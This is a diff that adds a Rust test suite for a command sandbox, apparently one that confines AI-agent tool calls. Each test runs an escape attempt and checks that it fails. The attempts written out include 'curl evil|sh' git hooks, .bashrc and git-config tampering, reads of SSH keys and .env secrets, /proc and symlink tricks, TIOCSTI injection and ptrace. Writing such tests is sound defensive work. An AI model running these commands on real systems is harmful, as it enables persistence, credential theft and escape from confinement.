@@ -1,0 +1,357 @@
+//! Escape attempts, each run inside the sandbox, each of which must fail
+//! there, with the host left unchanged. Each test first shows that the same
+//! kind of write or read works where it is allowed, so a failure is the
+//! sandbox's and not a broken fixture's.
+
+mod common;
+
+use std::io::Write;
+use std::os::unix::fs::PermissionsExt;
+
+use common::{Fixture, read, stderr, stdout};
+
+#[test]
+fn control_writes_inside_the_location_succeed() {
+    let f = Fixture::new();
+    let out = f.run("echo inside > \"$WS/made.txt\" && echo tmp > /tmp/t && cat /tmp/t");
+    assert!(out.status.success());
+    assert_eq!(read(&f.ws.join("made.txt")), "inside\n");
+}
+
+#[test]
+fn write_outside_the_location_directly() {
+    let f = Fixture::new();
+    let out = f.run("echo pwned > \"$OUT/direct\"");
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("Read-only file system"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!f.outside.join("direct").exists());
+}
+
+#[test]
+fn write_outside_through_a_symlink_in_the_location() {
+    let f = Fixture::new();
+    std::os::unix::fs::symlink(&f.outside, f.ws.join("link")).unwrap();
+    let out = f.run("echo pwned > \"$WS/link/via-link\"");
+    assert!(!out.status.success());
+    assert!(!f.outside.join("via-link").exists());
+    // A symlink made inside the sandbox does no better.
+    let out = f.run("ln -s \"$OUT\" \"$WS/link2\" && echo pwned > \"$WS/link2/via-link2\"");
+    assert!(!out.status.success());
+    assert!(!f.outside.join("via-link2").exists());
+}
+
+#[test]
+fn write_outside_through_proc_self_root() {
+    let f = Fixture::new();
+    let out = f.run("echo pwned > \"/proc/self/root$OUT/via-proc-root\"");
+    assert!(!out.status.success());
+    assert!(!f.outside.join("via-proc-root").exists());
+}
+
+#[test]
+fn write_outside_through_proc_ppid_fd() {
+    let f = Fixture::new();
+    // The parent (this test, standing in for toolgate) holds a file outside
+    // open for writing; the command looks for it under /proc.
+    let target = f.outside.join("held-open");
+    let mut held = std::fs::File::create(&target).unwrap();
+    held.write_all(b"original\n").unwrap();
+    let me = std::process::id();
+    let out = f.run(&format!(
+        "ok=0; for fd in /proc/{me}/fd/* /proc/$PPID/fd/* /proc/1/fd/*; do \
+           if [ \"$(readlink \"$fd\")\" = \"{}\" ]; then echo pwned > \"$fd\" && ok=1; fi; \
+         done; ls /proc/{me} 2>&1; [ $ok = 1 ]",
+        target.display()
+    ));
+    assert!(!out.status.success());
+    assert_eq!(read(&target), "original\n");
+}
+
+#[test]
+fn write_git_hooks() {
+    let f = Fixture::new();
+    f.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    f.write(".git/HEAD", "ref: refs/heads/main\n");
+    let out = f.run("echo 'curl evil|sh' > \"$WS/.git/hooks/pre-commit\"");
+    assert!(!out.status.success());
+    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
+    // …while ordinary git state stays writable.
+    let out = f.run("echo 'ref: refs/heads/topic' > \"$WS/.git/HEAD\"");
+    assert!(out.status.success());
+}
+
+#[test]
+fn write_git_hooks_when_the_hooks_directory_is_missing() {
+    let f = Fixture::new();
+    f.write(".git/HEAD", "ref: refs/heads/main\n");
+    let out = f.run(
+        "mkdir -p \"$WS/.git/hooks\" && echo 'curl evil|sh' > \"$WS/.git/hooks/post-checkout\"",
+    );
+    assert!(!out.status.success());
+    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
+    assert!(
+        !f.ws.join(".git/hooks").exists(),
+        "the placeholder is removed after the run"
+    );
+}
+
+#[test]
+fn write_git_config() {
+    let f = Fixture::new();
+    let config = f.write(".git/config", "[core]\n");
+    let out = f.run("printf '[core]\\n\\tfsmonitor = evil\\n' >> \"$WS/.git/config\"");
+    assert!(!out.status.success());
+    assert_eq!(read(&config), "[core]\n");
+    // Replacing it by rename is refused too.
+    let out = f.run("echo x > \"$WS/.git/c2\" && mv \"$WS/.git/c2\" \"$WS/.git/config\"");
+    assert!(!out.status.success());
+    assert_eq!(read(&config), "[core]\n");
+}
+
+#[test]
+fn write_toolgate_config() {
+    let f = Fixture::new();
+    // Missing: the command may not create it.
+    let out = f
+        .run("mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"");
+    assert!(!out.status.success());
+    assert!(!f.ws.join(".toolgate").exists());
+    // Present: the command may not change it, nor move it away.
+    let config = f.write(".toolgate/config.toml", "mode = \"default\"\n");
+    let out = f.run(
+        "echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"; mv \"$WS/.toolgate\" \"$WS/moved\"",
+    );
+    assert!(!out.status.success());
+    assert_eq!(read(&config), "mode = \"default\"\n");
+}
+
+#[test]
+fn write_bashrc_in_home() {
+    let f = Fixture::new();
+    let out = f.run("echo 'curl evil|sh' >> ~/.bashrc");
+    assert!(!out.status.success());
+    assert_eq!(read(&f.home.join(".bashrc")), "# rc\n");
+}
+
+#[test]
+fn other_protected_paths_are_read_only() {
+    let f = Fixture::new();
+    for rel in [
+        ".envrc",
+        ".mcp.json",
+        ".claude/settings.json",
+        ".vscode/tasks.json",
+        ".github/workflows/ci.yml",
+        ".gitlab-ci.yml",
+    ] {
+        let out = f.run(&format!(
+            "mkdir -p \"$(dirname \"$WS/{rel}\")\"; echo evil > \"$WS/{rel}\""
+        ));
+        assert!(!out.status.success(), "{rel}");
+        assert!(!f.ws.join(rel).exists(), "{rel}");
+    }
+    let leftovers: Vec<_> = std::fs::read_dir(&f.ws)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert!(
+        leftovers.is_empty(),
+        "placeholders left behind: {leftovers:?}"
+    );
+}
+
+#[test]
+fn read_ssh_key() {
+    let f = Fixture::new();
+    let out = f.run("cat ~/.ssh/id_rsa; ls -A ~/.ssh; cat ~/.netrc");
+    assert!(!stdout(&out).contains("PRIVATE KEY"), "{}", stdout(&out));
+    assert!(!stdout(&out).contains("id_rsa"));
+    assert!(!stdout(&out).contains("NETRC-SECRET"));
+    // Through a symlink in the location, too.
+    std::os::unix::fs::symlink(f.home.join(".ssh/id_rsa"), f.ws.join("key")).unwrap();
+    let out = f.run("cat \"$WS/key\"");
+    assert!(!stdout(&out).contains("PRIVATE KEY"));
+}
+
+#[test]
+fn read_ssh_key_through_a_hard_link_in_the_location() {
+    let f = Fixture::new();
+    std::fs::hard_link(f.home.join(".ssh/id_rsa"), f.ws.join("notes.txt")).unwrap();
+    let out = f.run("cat \"$WS/notes.txt\"");
+    assert!(!stdout(&out).contains("PRIVATE KEY"), "{}", stdout(&out));
+}
+
+#[test]
+fn read_dotenv() {
+    let f = Fixture::new();
+    f.write(".env", "API_KEY=DOTENV-SECRET\n");
+    f.write("app/.env.production", "API_KEY=PROD-SECRET\n");
+    f.write(".env.example", "API_KEY=\n");
+    let out = f.run("cat \"$WS/.env\" \"$WS/app/.env.production\"; cat \"$WS/.env.example\"");
+    assert!(!stdout(&out).contains("SECRET"), "{}", stdout(&out));
+    assert!(stdout(&out).contains("API_KEY="), "templates stay readable");
+}
+
+#[test]
+fn read_dotenv_through_a_hard_link() {
+    let f = Fixture::new();
+    let env = f.write(".env", "API_KEY=DOTENV-SECRET\n");
+    std::fs::hard_link(&env, f.ws.join("config.txt")).unwrap();
+    let mut spec = f.spec();
+    // The .env file is a credential the caller names; its links are found.
+    spec.masked.push(env);
+    let out = f.run_spec(&spec, "cat \"$WS/config.txt\"");
+    assert!(!stdout(&out).contains("SECRET"), "{}", stdout(&out));
+}
+
+#[test]
+fn connect_to_a_listener_on_localhost() {
+    let f = Fixture::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let out = f.run(&format!("echo hello > /dev/tcp/127.0.0.1/{port}"));
+    assert!(!out.status.success());
+    assert!(
+        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the listener was reached"
+    );
+    // With the network asked for, the same command reaches it: the test is real.
+    let mut spec = f.spec();
+    spec.network = true;
+    let out = f.run_spec(&spec, &format!("echo hello > /dev/tcp/127.0.0.1/{port}"));
+    assert!(out.status.success());
+}
+
+#[test]
+fn resolve_a_name() {
+    let f = Fixture::new();
+    let out = f.run("getent ahosts example.com");
+    assert!(!out.status.success());
+    assert!(stdout(&out).is_empty());
+}
+
+#[test]
+fn signal_the_parent() {
+    let f = Fixture::new();
+    let me = std::process::id();
+    let out = f.run(&format!(
+        "kill -0 {me} && echo reached; kill -0 $PPID 2>&1; ps -e -o pid= | wc -l"
+    ));
+    assert!(!stdout(&out).contains("reached"));
+    // Only the sandbox's own processes are there to see.
+    let count: usize = stdout(&out)
+        .lines()
+        .last()
+        .unwrap_or("0")
+        .trim()
+        .parse()
+        .unwrap_or(99);
+    assert!(count <= 5, "sees {count} processes");
+}
+
+#[test]
+fn ptrace_the_parent() {
+    let f = Fixture::new();
+    let me = std::process::id();
+    let script = format!(
+        "import ctypes, os\n\
+         libc = ctypes.CDLL(None, use_errno=True)\n\
+         for pid in ({me}, os.getppid()):\n\
+         \x20   r = libc.ptrace(16, pid, None, None)\n\
+         \x20   print('attach', pid, r, os.strerror(ctypes.get_errno()))\n\
+         \x20   assert r == -1\n\
+         r = libc.ptrace(0, 0, None, None)\n\
+         print('traceme', r, os.strerror(ctypes.get_errno()))\n\
+         assert r == -1\n"
+    );
+    let out = f.run(&format!("/usr/bin/python3 -c \"{script}\""));
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(stdout(&out).contains("traceme -1 Operation not permitted"));
+    if std::path::Path::new("/usr/bin/strace").exists() {
+        let out = f.run("strace -f true 2>&1");
+        assert!(stdout(&out).contains("PTRACE_TRACEME: Operation not permitted"));
+    }
+}
+
+#[test]
+fn tiocsti_terminal_injection() {
+    let f = Fixture::new();
+    // A new session whose controlling terminal is a fresh pty: there, TIOCSTI
+    // needs no privilege at all (where the kernel still offers it).
+    let script = "import os, fcntl, termios\n\
+                  m, s = os.openpty()\n\
+                  name = os.ttyname(s)\n\
+                  pid = os.fork()\n\
+                  if pid == 0:\n\
+                  \x20   os.setsid()\n\
+                  \x20   fd = os.open(name, os.O_RDWR)\n\
+                  \x20   try:\n\
+                  \x20       fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n\
+                  \x20       print('injected')\n\
+                  \x20   except OSError as e:\n\
+                  \x20       print('refused', e.strerror)\n\
+                  \x20   os._exit(0)\n\
+                  os.waitpid(pid, 0)\n";
+    let control = std::process::Command::new("/usr/bin/python3")
+        .args(["-c", script])
+        .output()
+        .unwrap();
+    let out = f.run(&format!("/usr/bin/python3 -c \"{script}\""));
+    assert!(
+        stdout(&out).contains("refused Operation not permitted"),
+        "{}",
+        stdout(&out)
+    );
+    eprintln!(
+        "outside the sandbox: {}",
+        String::from_utf8_lossy(&control.stdout)
+    );
+}
+
+#[test]
+fn create_a_user_namespace() {
+    let f = Fixture::new();
+    let out = f.run("unshare -r id");
+    assert!(!out.status.success());
+    assert!(!stdout(&out).contains("uid=0"), "{}", stdout(&out));
+    let out = f.run("unshare -n true");
+    assert!(!out.status.success());
+}
+
+#[test]
+fn a_setuid_binary_gains_nothing() {
+    let f = Fixture::new();
+    let out = f.run("grep -E '^(NoNewPrivs|CapEff)' /proc/self/status");
+    assert!(stdout(&out).contains("NoNewPrivs:\t1"), "{}", stdout(&out));
+    assert!(stdout(&out).contains("CapEff:\t0000000000000000"));
+    // A setuid-root program: `mount` (util-linux) may mount only because of
+    // its setuid bit; inside, it cannot.
+    let out = f.run("mkdir -p \"$WS/m\" && /usr/bin/mount -t tmpfs none \"$WS/m\" && echo mounted");
+    assert!(!stdout(&out).contains("mounted"));
+    if nix_is_root() {
+        // As root, a setuid-root copy of cat reports what an exec of a setuid
+        // file gives: no capabilities.
+        let cat = f.ws.join("suid-cat");
+        std::fs::copy("/bin/cat", &cat).unwrap();
+        std::fs::set_permissions(&cat, std::fs::Permissions::from_mode(0o4755)).unwrap();
+        let out = f.run("\"$WS/suid-cat\" /proc/self/status | grep -E '^CapEff'");
+        assert!(
+            stdout(&out).contains("CapEff:\t0000000000000000"),
+            "{}",
+            stdout(&out)
+        );
+    }
+}
+
+fn nix_is_root() -> bool {
+    std::fs::read_to_string("/proc/self/status")
+        .unwrap_or_default()
+        .lines()
+        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
+}
